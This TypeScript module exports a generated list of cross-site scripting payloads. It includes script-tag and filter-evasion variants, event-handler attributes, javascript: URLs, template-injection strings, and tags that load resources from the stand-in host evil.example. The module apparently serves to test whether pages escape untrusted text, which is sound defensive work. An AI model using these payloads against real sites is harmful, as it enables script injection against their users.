const scripts = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script type=module>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<script>alert`1`</script>',
  '<!--<script>alert(1)</script>-->',
  '<!--<script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '"}</script><script>alert(1)</script>',
  '\u2028</script><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
];

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'object data=x',
  'marquee',
];
// Each element with three of the handlers.
const tags = elements.flatMap((element, index) =>
  [0, 3, 5].map((step) => `<${element} ${handlers[(index + step) % handlers.length]}=alert(1)>`),
);
const quoted = ['"', "'", '`'].flatMap((quote) =>
  handlers.slice(0, 5).map((handler) => `${quote}><img src=x ${handler}=alert(1)>`),
);
const attributes = ['"', "'", ''].flatMap((quote) =>
  handlers.slice(0, 4).map((handler) => `${quote} ${handler}=alert(1) x=${quote}`),
);

const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript://x%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{alert(1)}',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<img src=//evil.example/a.png>',
];

/** Texts that would call `alert`, or load something from another host, on a page that forgets to escape them. */
export const payloads: readonly string[] = [
  ...scripts,
  ...tags,
  ...quoted,
  ...attributes,
  ...urls,
  ...templates,
];
